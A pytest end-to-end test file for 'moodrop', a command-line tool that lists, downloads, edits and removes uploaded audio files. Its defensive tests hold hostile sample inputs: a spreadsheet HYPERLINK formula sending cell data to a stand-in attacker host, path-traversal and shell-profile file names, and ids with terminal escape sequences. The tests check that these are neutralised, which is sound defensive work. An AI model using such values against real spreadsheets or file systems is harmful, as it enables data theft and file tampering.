"""`ls`, `url`, `get`, `rm`, `edit`, `status`: commands on files by id."""

import csv
import re
import subprocess
import wave
from collections.abc import Callable
from pathlib import Path

import pytest
import urllib3

from tests.cli.command import MIB, Command, until
from tests.e2e.weak_line import WeakLine

pytestmark = pytest.mark.real

AFile = Callable[..., Path]
NO_SUCH = "01ARZ3NDEKTSV4RRFFQ69G5FAV"


def sent(moodrop: Command, *arguments: object) -> list[str]:
    """Upload files and return their ids."""
    ran = moodrop("upload", *arguments)
    assert ran.code == 0, ran.err
    return [line.split("\t")[0] for line in ran.lines]


def test_ids_flow_from_one_command_to_the_next(moodrop: Command, a_file: AFile) -> None:
    """`moodrop ls --mood happy | moodrop get -`."""
    songs = [a_file(f"{name}.mp3") for name in "abc"]
    sent(moodrop, "a.mp3", "b.mp3", "--mood", "happy")
    sent(moodrop, "c.mp3", "--mood", "sad")

    listed = moodrop("ls", "--mood", "happy")
    got = moodrop("get", "-", "-o", "there", stdin=listed.out.encode())

    assert {"there/a.mp3", "there/b.mp3"} == set(got.lines)
    assert songs[0].read_bytes() == (moodrop.home / "there" / "a.mp3").read_bytes()


def test_lists_are_for_people_spreadsheets_and_machines(moodrop: Command, a_file: AFile) -> None:
    a_file("a,b.mp3")
    (file_id,) = sent(moodrop, "a,b.mp3", "--title", 'He said "go"', "--album", "Blue", "--tag", "one", "--tag", "two")

    (row,) = list(csv.DictReader(moodrop("ls", "--csv", "--query", "said").lines))

    assert (file_id, 'He said "go"', "one,two", "1000") == (
        row["file_id"],
        row["title"],
        row["tags"],
        row["size_bytes"],
    )
    assert [file_id, "1000", "", 'He said "go"', "", "Blue", "", "a,b.mp3"] == moodrop("ls").lines[0].split("\t")
    assert [] == moodrop("ls", "--query", "nothing such").lines
    assert 2 == moodrop("ls", "--csv", "--json").code


def test_no_cell_of_a_spreadsheet_is_a_formula(moodrop: Command, a_file: AFile) -> None:
    """A stranger may have chosen the text. --json leaves it unchanged."""
    titles = {'=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(1)", "\uff1d1+1"}
    a_file("a.mp3")
    more = ["--artist", "A-ha", "--album", "B; =1+1", "--tag", "=1", "--filename", "-x.mp3"]
    more += ["--content-type", "audio/mpeg", "--no-resume"]
    for title in titles:
        sent(moodrop, "a.mp3", f"--title={title}", *more)

    rows = list(csv.DictReader(moodrop("ls", "--csv").lines))
    files = moodrop("ls", "--json").rows

    assert {"'" + title for title in titles} == {row["title"] for row in rows}
    named = {(row["artist"], row["album"], row["tags"], row["filename"]) for row in rows}
    assert {("A-ha", "B;' =1+1", "'=1", "'-x.mp3")} == named
    assert titles == {file["title"] for file in files}


@pytest.mark.parametrize(("seconds", "shown"), [(1, "0:01"), (185, "3:05"), (3723, "1:02:03")])
def test_a_list_tells_how_long_a_song_is(moodrop: Command, seconds: int, shown: str) -> None:
    """As read from the song itself."""
    with wave.open(str(moodrop.home / "a.wav"), "wb") as out:
        out.setparams((1, 1, 10, seconds * 10, "NONE", "not compressed"))
        out.writeframes(bytes(seconds * 10))
    sent(moodrop, "a.wav")

    assert [shown, "a.wav"] == moodrop("ls").lines[0].split("\t")[-2:]


def test_a_url_needs_no_token(moodrop: Command, a_file: AFile) -> None:
    """One line per id, in order; missing files are reported on stderr."""
    song, other = a_file("a.mp3"), a_file("b.mp3")
    ids = [*sent(moodrop, "a.mp3"), *sent(moodrop, "b.mp3")]

    ran = moodrop("url", *reversed(ids), NO_SUCH, "--expires-in", 60)

    assert [other.read_bytes(), song.read_bytes()] == [urllib3.request("GET", url).data for url in ran.lines]
    assert 5 == ran.code
    assert NO_SUCH in ran.err


def test_a_file_in_the_way_is_kept(moodrop: Command, a_file: AFile) -> None:
    """If it has the same bytes, that counts as success; any other file belongs to somebody."""
    song = a_file("a.mp3")
    (file_id,) = sent(moodrop, "a.mp3")

    again = moodrop("get", file_id)
    song.write_bytes(b"mine")
    refused = moodrop("get", file_id)

    assert (0, ["a.mp3"]) == (again.code, again.lines)
    assert (7, 1) == (refused.code, len(refused.err.splitlines()))
    assert b"mine" == song.read_bytes()
    song.unlink()
    (song.parent / "elsewhere").mkdir()
    song.symlink_to("elsewhere")
    assert (7, True) == ((through_link := moodrop("get", file_id)).code, "is in the way" in through_link.err)
    assert [] == list((song.parent / "elsewhere").iterdir())


def test_files_of_one_name_are_all_kept(moodrop: Command, a_file: AFile) -> None:
    """Phones call every picture image.jpg. Each path has its own file's bytes, and the next run finds them."""
    sizes = (3 * MIB, 3 * MIB, 1, 0, 17 * MIB)
    made = [a_file(f"{n}/same.mp3", size) for n, size in enumerate(sizes)] + [a_file("5/SAME.mp3")]
    by_id = {sent(moodrop, path)[0]: path.read_bytes() for path in made}

    first = moodrop("get", *by_id, "-o", "there", "--json")
    again = moodrop("get", *reversed(by_id), "-o", "there", "--json")

    for ran in (first, again):
        assert (0, len(made)) == (ran.code, len(ran.rows)), ran
        for row in ran.rows:
            assert by_id[row["file_id"]] == (moodrop.home / row["path"]).read_bytes(), row["path"]
        assert len(made) == len({row["path"] for row in ran.rows})
    names = {path.name for path in (moodrop.home / "there").iterdir()}
    assert {"same.mp3", "SAME (5).mp3", *(f"same ({n}).mp3" for n in range(1, 5))} == names


def test_a_file_that_is_named_twice_is_fetched_once(moodrop: Command, a_file: AFile) -> None:
    song = a_file("a.mp3")
    (file_id,) = sent(moodrop, "a.mp3")

    ran = moodrop("get", file_id, file_id, "-o", "there")

    assert (0, ["there/a.mp3"]) == (ran.code, ran.lines)
    assert [song.read_bytes()] == [path.read_bytes() for path in (moodrop.home / "there").iterdir()]


def test_two_commands_at_once_share_no_file(moodrop: Command, a_file: AFile, line: WeakLine) -> None:
    """One gets the name; the other is refused at once, and may try again."""
    by_id = {sent(moodrop, path)[0]: path for path in (a_file("1/same.mp3", 20 * MIB), a_file("2/same.mp3", 20 * MIB))}
    one, other = by_id
    line.requests.clear()
    line.hold_after(1)
    running = moodrop.start("get", one, "-o", "there")
    until(lambda: line.is_blocked)

    refused = moodrop("get", other, "-o", "there")
    line.restore()
    out, err = running.communicate(timeout=60)
    after = moodrop("get", other, "-o", "there")

    assert (7, "", 1) == (refused.code, refused.out, len(refused.err.splitlines()))
    assert "is in the way: another program is about to write it" in refused.err
    assert (0, b"there/same.mp3\n") == (running.returncode, out), err
    assert by_id[one].read_bytes() == (moodrop.home / "there" / "same.mp3").read_bytes()
    assert (7, True) == (after.code, "same.mp3 is in the way" in after.err)
    assert ["same.mp3"] == [path.name for path in (moodrop.home / "there").iterdir()]


def test_what_a_stranger_calls_a_file_runs_nothing_here(moodrop: Command, a_file: AFile) -> None:
    """For example in a home folder, where a shell reads its profile at the next login."""
    a_file("a.mp3")
    (moodrop.home / "precious").write_text("my only copy")
    (moodrop.home / "song.mp3.part").symlink_to("precious")
    names = [".bash_profile", "-rf", "..\\..\\y", "CON", "a:stream", "~", "\u202egpm.exe", "x.desktop", "song.mp3"]
    ids = [
        sent(moodrop, "a.mp3", "--filename", name, "--content-type", "audio/mpeg", "--no-resume")[0] for name in names
    ]

    ran = moodrop("get", *ids)

    assert 0 == ran.code, ran.err
    safe = {"_bash_profile", "_rf", "y", "_CON", "a_stream", "_", "gpm.exe", "x.desktop_", "song.mp3"}
    assert safe == set(ran.lines)
    assert "my only copy" == (moodrop.home / "precious").read_text()
    assert not [path for path in moodrop.home.iterdir() if path.name.startswith((".bash", "-", "~"))]


def test_where_to_is_a_folder(moodrop: Command, a_file: AFile) -> None:
    a_file("a.mp3")
    (file_id,) = sent(moodrop, "a.mp3")

    ran = moodrop("get", file_id, "-o", "a.mp3")

    assert (7, 1, True) == (ran.code, len(ran.err.splitlines()), "a.mp3" in ran.err)


def test_a_full_disk_leaves_nothing_behind(moodrop: Command, a_file: AFile) -> None:
    """Simulated by a limit on file size, and on stdout by a device that is always full."""
    a_file("a.mp3", 3 * MIB)
    (file_id,) = sent(moodrop, "a.mp3")
    words = " ".join(moodrop.line("get", file_id, "-o"))

    def run(script: str) -> "subprocess.CompletedProcess[bytes]":
        place = moodrop.place({"PYTHONDONTWRITEBYTECODE": "1"})
        return subprocess.run(["bash", "-c", script], capture_output=True, check=False, **place)

    to_disk = run(f"ulimit -f 1024; {words} there")
    to_stdout = run(f"{words} - >/dev/full")

    for ran in (to_disk, to_stdout):
        assert (7, 1) == (ran.returncode, len(ran.stderr.splitlines())), ran.stderr
        assert b"disk_full" in ran.stderr
    assert [] == list((moodrop.home / "there").iterdir())


def test_a_download_that_is_killed_leaves_no_whole_name(moodrop: Command, a_file: AFile, line: WeakLine) -> None:
    """No partial file has the final name, and the next run succeeds."""
    film = a_file("film.mp4", 40 * MIB)
    (file_id,) = sent(moodrop, "film.mp4")
    line.requests.clear()
    line.hold_after(1)  # the first of three ranges
    running = moodrop.start("get", file_id, "-o", "there", "--parallel", 1)
    until(lambda: len(line.requests) > 1)
    running.kill()
    running.communicate(timeout=60)
    line.restore()

    assert not (moodrop.home / "there" / "film.mp4").exists()
    assert 0 == moodrop("get", file_id, "-o", "there").code
    assert film.read_bytes() == (moodrop.home / "there" / "film.mp4").read_bytes()
    assert ["film.mp4"] == [path.name for path in (moodrop.home / "there").iterdir()]


def test_edits_change_what_is_named_and_nothing_else(moodrop: Command, a_file: AFile) -> None:
    """An empty value removes the field."""
    a_file("a.mp3")
    (file_id,) = sent(moodrop, "a.mp3", "--mood", "sad", "--title", "Old", "--artist", "Moody", "--tag", "x")

    ran = moodrop("edit", file_id, "--title", "New", "--album", "B", "--mood", "", "--tag", "", "--public", "--json")

    (file,) = ran.rows
    assert ("New", None, "Moody", "B", [], "public") == tuple(
        file[name] for name in ("title", "mood", "artist", "album", "tags", "visibility")
    )
    assert 2 == moodrop("edit", file_id).code


def test_a_file_gets_another_name(moodrop: Command, a_file: AFile) -> None:
    """Downloads use the new name; only one file at a time can be renamed."""
    a_file("old.mp3")
    (file_id,) = sent(moodrop, "old.mp3")

    edited = moodrop("edit", file_id, "--filename", "../new.mp3")

    assert (0, "new.mp3") == (edited.code, edited.lines[0].split("\t")[-1])
    assert "new.mp3" == moodrop("get", file_id).lines[0]
    for wrong in (["--filename", " "], ["--filename", "x.mp3", file_id]):
        refused = moodrop("edit", file_id, *wrong)
        assert (2, 1) == (refused.code, len(refused.err.splitlines())), refused


BAD_IDS = ["nope", "", "-1", "../../v1/session", "01M8JJ3NS30ZTZ9XZBHXG3FYIL", "\u202e\x1b[31m", "x" * 300]


@pytest.mark.parametrize(
    "command", [["get"], ["get", "-o", "-"], ["url"], ["rm"], ["edit", "--title", "x"], ["status"]], ids=str
)
def test_what_is_no_id_is_one_clear_line(moodrop: Command, command: list[str]) -> None:
    """It never shows a regular expression, and never calls another address."""
    for bad in BAD_IDS:
        ran = moodrop(*command, *(["--abort", bad] if command == ["status"] else ["--", bad]))

        assert (2, "", 1) == (ran.code, ran.out, len(ran.err.splitlines())), ran
        assert re.search(r'^moodrop: ".*" is not the id of an? (file|upload)\. Ids have 26 characters', ran.err)
        assert ran.err.rstrip("\n").isprintable()


def test_what_is_no_id_stops_no_other(moodrop: Command, a_file: AFile) -> None:
    """With --json it is reported like any other failure."""
    a_file("a.mp3")
    (file_id,) = sent(moodrop, "a.mp3")

    ran = moodrop("get", "nope", file_id, "--json")

    assert [file_id, "usage"] == sorted(row.get("file_id") or row["error"]["code"] for row in ran.rows)
    assert 2 == ran.code


def test_a_cover_is_set_and_removed(moodrop: Command, a_file: AFile) -> None:
    """On its own, or together with an edit."""
    a_file("a.mp3")
    a_file("a.png")
    (file_id,) = sent(moodrop, "a.mp3")

    (set_,) = moodrop("edit", file_id, "--cover", "a.png", "--title", "T", "--json").rows
    (removed,) = moodrop("edit", file_id, "--cover", "", "--json").rows
    missing = moodrop("edit", file_id, "--cover", "none.png")

    assert (set_["title"], removed["title"], removed["cover_id"]) == ("T", "T", None)
    assert set_["cover_id"]
    assert "none.png" in missing.err
    assert len(missing.err.splitlines()) == 1


def test_what_is_removed_is_gone(moodrop: Command, a_file: AFile) -> None:
    """Removing twice succeeds; an id that never existed fails."""
    a_file("a.mp3")
    (file_id,) = sent(moodrop, "a.mp3")

    assert [file_id] == moodrop("rm", file_id).lines
    assert 0 == moodrop("rm", file_id).code
    assert 5 == moodrop("rm", NO_SUCH).code
    assert 5 == moodrop("get", file_id).code
    assert [] == moodrop("ls").lines


def test_an_unfinished_upload_is_shown_and_may_be_given_up(moodrop: Command, a_file: AFile, line: WeakLine) -> None:
    """With the share that is stored."""
    a_file("film.mp4", 40 * MIB)
    line.hold_after(20 * MIB)
    running = moodrop.start("upload", "film.mp4", "--parallel", 1)
    until(lambda: line.is_blocked)
    running.kill()
    running.communicate(timeout=60)
    line.restore()

    (status,) = moodrop("status").lines
    upload_id, stored, size, _, name = status.split("\t")

    assert (str(16 * MIB), str(40 * MIB), "film.mp4") == (stored, size, name)
    assert upload_id == moodrop("status", "--json").rows[0]["upload_id"]
    assert [upload_id] == moodrop("status", "--abort", upload_id).lines
    assert [] == moodrop("status").lines


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_the_shell_learns_the_commands(anybody: Command, shell: str) -> None:
    ran = anybody("completion", shell)

    assert 0 == ran.code
    assert "_MOODROP_COMPLETE" in ran.out


def test_bash_completes(anybody: Command) -> None:
    """With the script that the command prints."""
    (anybody.home / "bin").mkdir()
    wrapper = anybody.home / "bin" / "moodrop"
    wrapper.write_text(f'#!/bin/sh\nexec {" ".join(anybody.line())} "$@"\n')
    wrapper.chmod(0o755)
    ask = """
        eval "$(moodrop completion bash)"
        COMP_WORDS=(moodrop up) COMP_CWORD=1
        _moodrop_completion moodrop
        echo "${COMPREPLY[@]}"
    """

    place = anybody.place({"PATH": f"{wrapper.parent}:{anybody.environment['PATH']}"})
    ran = subprocess.run(["bash", "-c", ask], capture_output=True, check=True, text=True, **place)

    assert "upload" == ran.stdout.strip()
